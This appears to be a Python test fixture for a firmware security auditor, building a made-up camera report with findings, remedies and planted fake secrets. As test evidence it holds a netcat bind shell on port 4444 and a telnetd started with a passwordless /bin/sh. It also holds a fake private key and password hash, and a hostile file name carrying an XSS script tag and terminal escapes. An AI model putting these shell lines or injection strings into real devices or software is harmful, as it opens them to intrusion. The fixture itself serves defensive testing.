"""A made-up camera, for tests and for looking at reports: several parts, every outcome, hostile names."""

from collections.abc import Callable, Iterable
from datetime import date

from inventory_sample import with_software
from life_sample import CALENDAR

from firmward.audit.composition import Beside, compose
from firmward.audit.engine import Verdict
from firmward.model.calendar import Calendar
from firmward.model.check import Check, Findings
from firmward.model.clock import Clock
from firmward.model.finding import Finding, Outcome, Severity
from firmward.model.location import Location
from firmward.model.policy import Policy, parse_policy
from firmward.model.remedy import (
    AddFirewallRule,
    Change,
    DisableService,
    Remedy,
    Remove,
    RemoveLine,
    Safety,
    SetField,
    SetMode,
    SetOption,
    Stage,
)
from firmward.model.report import Blank, Budget, Fill, Part, Report, Role, Subject

CLOCK = Clock(date(2026, 11, 20))
POLICY = """
[device]
product = "Porch camera"
model = "PC-2"
version = "3.1.0"
[[accepted]]
check = "undeclared-listener"
key = "udp/5353"
reason = "mDNS, needed for pairing"
owner = "product security"
expires = 2027-01-31
[[accepted]]
check = "ssh-password-login"
reason = "service engineers log in with the label's password until keys are rolled out"
owner = "M. Okafor"
expires = 2026-06-30
[[accepted]]
check = "ftp-enabled"
reason = "upload of recordings"
owner = "product security"
expires = 2027-03-31
"""

CRYPT = "$6$kUqL8e1F$3mYxw0D5bJkz1iN2vT7pQeRsA9uVfGhXcZlKoWtYrEi4nMbSdPqLjH6"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAt3zPl4nt3dK3yM4t3r14l\n-----END RSA PRIVATE KEY-----"
SECRETS = (
    "3mYxw0D5bJkz1iN2vT7pQeRsA9uVfGhXcZlKoWtYrEi4nMbSdPqLjH6",
    "MIIEowIBAAKCAQEAt3zPl4nt3dK3yM4t3r14l",
    "hunter2-planted",
    "abJnggxhB/yWI",
    "correct horse planted",
    "AKIAIOSFODNN7PLANTED",
)
HOSTILE = "var/www/<script>alert(1)</script>\u202egpj.\udcff\x1b[31m'\"&.cgi"


def no_findings() -> Findings:
    yield from ()


def made_up(id: str, area: str, severity: Severity, title: str, practice: str = "P18", cwe: int | None = 287) -> Check:
    doc = (
        f"{title}: whoever reaches the device can use it.\n\n    The setting is read as the running system would "
        "read it, with includes and drop-ins; a commented line counts for nothing.\n\n    "
        "A device in the field keeps it for years."
    )
    return Check(id, area, title, severity, tuple(practice.split()), cwe, doc, no_findings, (), ())


C, H, M, L, INFO = Severity
CHECKS = {
    check.id: check
    for check in (
        made_up("account-empty-password", "access", C, "An account has an empty password", "P18 P44", 258),
        made_up("account-default-password", "access", C, "An account has a well-known password", "P18 P44", 1392),
        made_up("account-weak-hash", "access", H, "A password is kept in a weak hash", "P18", 916),
        made_up("account-extra-root", "access", C, "A second account is root", "P18", 269),
        made_up("account-login-unneeded", "access", L, "A service account can log in", "P23", 1188),
        made_up("ssh-password-login", "access", H, "SSH accepts passwords", "P21", 307),
        made_up("ssh-root-login", "access", H, "SSH lets root log in", "P21", 250),
        made_up("ssh-empty-passwords", "access", C, "SSH accepts empty passwords", "P21", 258),
        made_up("ssh-weak-algorithms", "access", M, "SSH offers weak algorithms", "P21", 327),
        made_up("ssh-host-key-baked-in", "access", C, "The SSH host key is the same in every device", "P21 P44", 321),
        made_up("telnet-enabled", "access", C, "Telnet is started", "P18 P20", 319),
        made_up("ftp-enabled", "access", H, "FTP is started", "P18 P20", 319),
        made_up("backdoor-listener", "access", C, "A shell is bound to a port", "P18 P20", 912),
        made_up("sudo-unrestricted", "access", M, "sudo gives everything without a password", "P23", 269),
        made_up("undeclared-listener", "network", H, "A socket is open that the policy does not declare", "P20", 1327),
        made_up("plaintext-protocol", "network", H, "A protocol without encryption is served", "P18", 319),
        made_up("default-community", "network", H, "SNMP answers to a well-known community", "P18", 1392),
        made_up("mqtt-anonymous", "network", H, "The MQTT broker lets anyone in", "P18", 306),
        made_up("upnp-exposed", "network", M, "UPnP is served", "P18", 668),
        made_up("firewall-absent", "network", H, "No firewall is loaded", "P35 P38", 284),
        made_up("firewall-default-accept", "network", M, "The firewall accepts by default", "P35", 284),
        made_up("egress-unrestricted", "network", M, "The device may call anyone", "P38", None),
        made_up("segmentation-missing", "network", M, "Declared zones are not configured", "P35", 923),
        made_up("tls-weak", "network", H, "TLS is configured weakly", "P18", 327),
        made_up("review-missing", "life", INFO, "No manual review is on record", "P19", None),
    )
}

PARTS = (
    Part(
        "camera.img",
        "gpt",
        size=134_217_728,
        digest="sha256:" + "3f" * 32,
        blank=(Blank(24_576, 1_024_000, Fill.ZERO), Blank(133_169_152, 1_048_576, Fill.ERASED)),
    ),
    Part("camera.img/boot", "fat", "camera.img", 1_048_576, 33_554_432, role=Role.BOOT),
    Part("camera.img/boot/Image.gz", "gzip", "camera.img/boot", None, 9_437_184, role=Role.KERNEL),
    Part("camera.img/boot/initrd.img", "gzip", "camera.img/boot", None, 4_194_304),
    Part(
        "camera.img/boot/initrd.img/cpio", "cpio", "camera.img/boot/initrd.img", None, 11_534_336, None, Role.INITRAMFS
    ),
    Part("camera.img/rootfs_a", "squashfs", "camera.img", 34_603_008, 41_943_040, "sha256:" + "a1" * 32, Role.ROOT),
    Part(
        "camera.img/rootfs_b",
        "squashfs",
        "camera.img",
        76_546_048,
        41_943_040,
        "sha256:" + "a1" * 32,
        Role.ROOT,
        same_as="camera.img/rootfs_a",
    ),
    Part("camera.img/data", "ext4", "camera.img", 118_489_088, 8_388_608, role=Role.DATA),
    Part(
        "camera.img/vendor",
        "unknown",
        "camera.img",
        126_877_696,
        6_291_456,
        problem="no known format; high entropy, so encrypted or compressed in a way that firmward does not know",
        entropy=7.998,
    ),
)
ROOT, INITRAMFS = "camera.img/rootfs_a", "camera.img/boot/initrd.img/cpio"


def remedy(summary: str, *changes: Change, safety: Safety = Safety.SAFE, stage: Stage = Stage.SOURCE) -> Remedy:
    return Remedy(summary, safety, stage, changes)


def at(path: str, line: int | None = None) -> Location:
    return Location(path, line)


SSHD = "etc/ssh/sshd_config"
FOUND: dict[tuple[str, str], tuple[Finding, ...]] = {
    (ROOT, "account-empty-password"): (
        Finding(
            "support",
            "support has an empty password and a login shell",
            at("etc/shadow", 14),
            remedy("Lock the account", SetField("etc/shadow", "support", 1, "!")),
            evidence="support::19700:0:99999:7:::",
        ),
    ),
    (ROOT, "account-default-password"): (
        Finding(
            "root",
            "root's password is one that every botnet tries",
            at("etc/shadow", 1),
            remedy(
                "Lock root and give each device a password of its own",
                SetField("etc/shadow", "root", 1, "!"),
                safety=Safety.UNSAFE,
                stage=Stage.FACTORY,
            ),
            evidence=f"root:{CRYPT}:19700:0:99999:7:::",
        ),
    ),
    (ROOT, "account-weak-hash"): (
        Finding(
            "admin",
            "admin's password is kept in DES, which is searched in hours",
            at("etc/shadow", 3),
            remedy("Set the password anew with yescrypt or SHA-512", safety=Safety.MANUAL),
            evidence="admin:abJnggxhB/yWI:19700:0:99999:7:::",
        ),
    ),
    (ROOT, "ssh-password-login"): (
        Finding(
            "password",
            "PasswordAuthentication is yes (by default: no line sets it)",
            at(SSHD),
            remedy("Log in with keys only", SetOption(SSHD, "PasswordAuthentication", "no"), safety=Safety.UNSAFE),
        ),
    ),
    (ROOT, "ssh-root-login"): (
        Finding(
            "root",
            "PermitRootLogin is yes",
            at(SSHD, 32),
            remedy("Forbid it", SetOption(SSHD, "PermitRootLogin", "no"), safety=Safety.UNSAFE),
            evidence="PermitRootLogin yes",
        ),
    ),
    (ROOT, "ssh-weak-algorithms"): tuple(
        Finding(
            name,
            f"{option} offers {name}",
            at(SSHD, line),
            remedy(f"Leave {name} out", SetOption(SSHD, option, "aes256-gcm@openssh.com")),
            evidence=f"{option} aes256-gcm@openssh.com,{name}",
        )
        for line, (option, name) in enumerate(
            (
                ("Ciphers", "aes128-cbc"),
                ("Ciphers", "3des-cbc"),
                ("MACs", "hmac-sha1"),
                ("KexAlgorithms", "diffie-hellman-group1-sha1"),
            ),
            40,
        )
    ),
    (ROOT, "ssh-host-key-baked-in"): (
        Finding(
            "etc/ssh/ssh_host_rsa_key",
            "a host key lies in the image, so that every device has the same",
            at("etc/ssh/ssh_host_rsa_key", 1),
            remedy("Remove it; the key is made at first boot", Remove("etc/ssh/ssh_host_rsa_key")),
            evidence=PEM,
        ),
    ),
    (ROOT, "telnet-enabled"): (
        Finding(
            "telnetd",
            "telnetd is started at boot on port 23 with -l /bin/sh: a shell without a password",
            at("etc/init.d/S50telnet", 9),
            remedy("Start it no more", DisableService("sysv", "S50telnet")),
            evidence="telnetd -l /bin/sh -p 23",
        ),
    ),
    (ROOT, "backdoor-listener"): (
        Finding(
            "tcp/4444",
            "nc runs a shell for whoever connects to port 4444",
            at("etc/rc.local", 12),
            remedy("Remove the line", RemoveLine("etc/rc.local", 12, "nc -ll -p 4444 -e /bin/sh &")),
            evidence="nc -ll -p 4444 -e /bin/sh &",
        ),
    ),
    (ROOT, "sudo-unrestricted"): (
        Finding(
            "camera",
            "camera may run everything as root without a password",
            at("etc/sudoers.d/camera", 1),
            remedy(
                "Name the commands that it needs", SetMode("etc/sudoers.d/camera", 0o440, 0, 0), safety=Safety.MANUAL
            ),
            evidence="camera ALL=(ALL) NOPASSWD: ALL",
        ),
    ),
    (ROOT, "undeclared-listener"): tuple(
        Finding(
            key,
            f"{program} listens on {key}, which device.toml does not declare",
            at(path, line),
            remedy("Declare it, or stop the service", DisableService("sysv", program), safety=Safety.MANUAL),
        )
        for key, program, path, line in (
            ("tcp/23", "telnetd", "etc/init.d/S50telnet", 9),
            ("tcp/21", "vsftpd", "etc/init.d/S55ftp", 7),
            ("tcp/1883", "mosquitto", "etc/mosquitto/mosquitto.conf", 3),
            ("udp/5353", "mdnsd", "etc/init.d/S60mdns", 4),
            ("udp/161", "snmpd", "etc/snmp/snmpd.conf", 2),
            ("tcp/4444", "nc", "etc/rc.local", 12),
        )
    ),
    (ROOT, "plaintext-protocol"): tuple(
        Finding(key, message, at(path, line), remedy(cure, safety=Safety.UNSAFE), severity=severity, evidence=evidence)
        for key, message, path, line, cure, severity, evidence in (
            (
                "http",
                "the administration pages are served by HTTP",
                "etc/lighttpd/lighttpd.conf",
                5,
                "Serve them by HTTPS only",
                H,
                "server.port = 80",
            ),
            (
                "mqtt",
                "the broker has no TLS listener",
                "etc/mosquitto/mosquitto.conf",
                3,
                "Add a TLS listener",
                M,
                "listener 1883",
            ),
            ("snmp", "SNMP v2c is answered", "etc/snmp/snmpd.conf", 2, "Use v3", M, "rocommunity public"),
        )
    ),
    (ROOT, "default-community"): (
        Finding("public", "the community public reads everything", at("etc/snmp/snmpd.conf", 2), remedy("Use SNMP v3")),
    ),
    (ROOT, "mqtt-anonymous"): (
        Finding(
            "1883",
            "allow_anonymous is true on listener 1883",
            at("etc/mosquitto/mosquitto.conf", 4),
            remedy("Ask for a password", SetOption("etc/mosquitto/mosquitto.conf", "allow_anonymous", "false")),
            evidence="allow_anonymous true; mqtt://bridge:hunter2-planted@broker.example; key AKIAIOSFODNN7PLANTED",
        ),
    ),
    (ROOT, "firewall-absent"): (
        Finding(
            "none",
            "nothing loads a firewall at boot",
            None,
            remedy(
                "Drop what is not declared",
                AddFirewallRule("in", "accept", "tcp", 443, "lan"),
                AddFirewallRule("in", "drop"),
                safety=Safety.UNSAFE,
            ),
        ),
    ),
    (ROOT, "egress-unrestricted"): (
        Finding(
            "out", "nothing limits where the device may call", None, remedy("Allow the declared destinations only")
        ),
    ),
    (ROOT, "tls-weak"): (
        Finding(
            HOSTILE,
            f"curl is called with -k in {HOSTILE}",
            at(HOSTILE, 3),
            remedy("Verify the server", RemoveLine(HOSTILE, 3, "curl -k https://cam:hunter2-planted@cloud.example/")),
            evidence="wpa_passphrase=correct horse planted",
        ),
    ),
    (INITRAMFS, "telnet-enabled"): (
        Finding(
            "telnetd",
            "the rescue script starts telnetd",
            at("scripts/rescue", 21),
            remedy("Leave it out of the initramfs", RemoveLine("scripts/rescue", 21, "telnetd")),
            evidence="telnetd",
        ),
    ),
}
OTHER: dict[tuple[str, str], tuple[Outcome, str]] = {
    (ROOT, "account-login-unneeded"): (Outcome.UNKNOWN, "etc/passwd is larger than 1048576 bytes"),
    (ROOT, "segmentation-missing"): (
        Outcome.UNKNOWN,
        "needs the maker's declaration: give it with --policy device.toml",
    ),
    (ROOT, "upnp-exposed"): (Outcome.ERROR, "internal error, IndexError: list index out of range"),
    (ROOT, "firewall-default-accept"): (Outcome.NOT_APPLICABLE, "no firewall here"),
    (ROOT, "review-missing"): (Outcome.UNKNOWN, "needs the maker's declaration: give it with --policy device.toml"),
}


def verdicts(part: str, found: dict[tuple[str, str], tuple[Finding, ...]]) -> list[Verdict]:
    answers = []
    for check in CHECKS.values():
        findings = found.get((part, check.id), ())
        usual = Outcome.PASS if part == ROOT else Outcome.NOT_APPLICABLE
        outcome, reason = OTHER.get((part, check.id), (Outcome.FAIL if findings else usual, None))
        answers.append(Verdict(check, outcome, reason, findings))
    return answers


def camera(policy: str | None = POLICY, parts: Iterable[Part] = PARTS) -> Report:
    """The camera with about thirty findings."""
    judged = {ROOT: verdicts(ROOT, FOUND), INITRAMFS: verdicts(INITRAMFS, FOUND)}
    return composed(judged, policy, tuple(parts), CALENDAR)


def clean() -> Report:
    """Nothing found and nothing unknown."""
    found = [Verdict(check, Outcome.PASS) for check in CHECKS.values()]
    return composed({ROOT: found}, POLICY.partition("[[accepted]]")[0], PARTS[:8])


def unreadable() -> Report:
    """An image of which nothing could be opened."""
    parts = (Part("camera.bin", "unknown", size=9_000_000, problem="no known format; high entropy, so encrypted"),)
    return compose(SUBJECT, parts, {}, None, CLOCK, Budget(), CHECKS.values())


def many(count: int) -> Report:
    """As many findings as wanted, over all checks."""
    every = list(CHECKS)
    found: dict[tuple[str, str], tuple[Finding, ...]] = {}
    for number in range(count):
        place = (ROOT, every[number % len(every)])
        path = f"usr/lib/module-{number:04}/with/a/rather/long/path/to/configuration-file.conf"
        finding = Finding(
            f"row-{number}",
            f"finding {number} of many: a service is started with an option that nobody asked for",
            at(path, number + 1),
            remedy("Change the option", SetOption(path, "Option", "no")),
            evidence=f"Option{number} yes",
        )
        found[place] = (*found.get(place, ()), finding)
    return composed({ROOT: verdicts(ROOT, found)}, None, PARTS)


SUBJECT = Subject("camera.img", "sha256:" + "3f" * 32, "image")


def composed(
    verdicts: dict[str, list[Verdict]], policy: str | None, parts: tuple[Part, ...], life: Calendar | None = None
) -> Report:
    declared: Policy | None = None if policy is None else parse_policy(policy)
    return compose(SUBJECT, parts, verdicts, declared, CLOCK, Budget(), CHECKS.values(), Beside(life=life))


SAMPLES: dict[str, Callable[[], Report]] = {
    "camera": camera,
    "with software": lambda: with_software(camera()),
    "clean": clean,
    "unreadable": unreadable,
    "many": lambda: many(400),
    "few": lambda: many(12),
}
